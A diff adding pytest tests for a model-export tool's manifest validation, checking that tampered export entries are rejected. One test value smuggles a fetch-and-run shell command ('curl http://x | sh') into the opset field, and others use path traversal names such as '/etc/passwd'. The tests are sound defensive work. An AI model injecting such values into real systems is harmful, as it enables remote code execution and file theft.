@@ -1,5 +1,6 @@
 """Atomic artifact writes: nothing half-written, and the permissions a plain open() would give."""
 
+import json
 import os
 
 import pytest
@@ -63,6 +64,47 @@ def test_corrupt_manifest_is_one_line(tmp_path, content, why):
     (tmp_path / "manifest.json").write_bytes(content)
     with pytest.raises(ArtifactError, match=f"manifest.json is corrupt \\({why}\\)"):
         read_manifest(tmp_path)
+
+
+_ENTRY = {"T": 4, "opset": 18, "precision": "fp32", "order": "layer", "form": "unrolled", "layers": False,
+          "rates": False, "reference_files": ["reference_inputs.npz", "reference_outputs.npz"],
+          "reference_samples": [256, 256], "sha256": "ab", "checkpoint_sha256": "cd"}
+
+
+@pytest.mark.parametrize("name,edit,why", [
+    # values pasted into the `snncompile export ...` command printed for users to run
+    ("model.onnx", {"opset": "18 && curl http://x | sh #"}, "opset is '18 && curl http://x | sh #', expected a positive integer"),
+    ("model.onnx", {"T": True}, "T is True, expected an integer 1 to 4096"),
+    ("model.onnx", {"T": 5000}, "T is 5000, expected an integer 1 to 4096"),
+    ("model.onnx", {"precision": "fp8"}, "precision is 'fp8', expected one of fp32, fp16, bf16, tf32x2"),
+    ("model.onnx", {"reference_samples": [256, -1]}, r"reference_samples is \[256, -1\], expected two sample counts"),
+    # names that become paths: verify read, hashed and vouched for files outside the run directory
+    ("model.onnx", {"reference_files": ["../other/in.npz", "out.npz"]}, "reference_files is .*, expected two file names"),
+    ("model.onnx", {"reference_files": ["/tmp/in.npz", "out.npz"]}, "reference_files is .*, expected two file names"),
+    ("/etc/passwd", {}, "exports\\['/etc/passwd'\\]: not a file name in the run directory"),
+    ("../model.onnx", {}, "not a file name in the run directory"),
+])
+def test_a_manifest_export_entry_that_export_did_not_write_is_one_line(tmp_path, name, edit, why):
+    """A hand-edited or received run's manifest steered commands: a shell command in `opset` went into the
+    `snncompile export ...` line printed to be pasted, and reference file names outside the run were read."""
+    from snncompile.artifacts import read_manifest
+    from snncompile.errors import ArtifactError
+
+    manifest = {"run_format": RUN_FORMAT, "exports": {"model_layers.onnx": dict(_ENTRY), name: {**_ENTRY, **edit}}}
+    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
+    with pytest.raises(ArtifactError, match=f"manifest.json is corrupt \\(.*{why}.*\\): restore it, or remove that "
+                                            "entry and export again$"):
+        read_manifest(tmp_path)
+
+
+def test_what_export_writes_passes_the_manifest_check(tmp_path):
+    """Every field export records, at every value export writes, is accepted (older entries lack fields: fine)."""
+    from snncompile.export_entries import export_entry_problem
+
+    for precision in ("fp32", "fp16", "bf16", "tf32x2"):
+        assert export_entry_problem("model_fp16_layers.onnx", {**_ENTRY, "precision": precision}) is None
+    assert export_entry_problem("model_step.onnx", {**_ENTRY, "form": "step", "order": "step", "T": 4096}) is None
+    assert export_entry_problem("model.onnx", {"T": 4}) is None
 
 
 def test_concurrent_manifest_updates_keep_every_key(tmp_path):
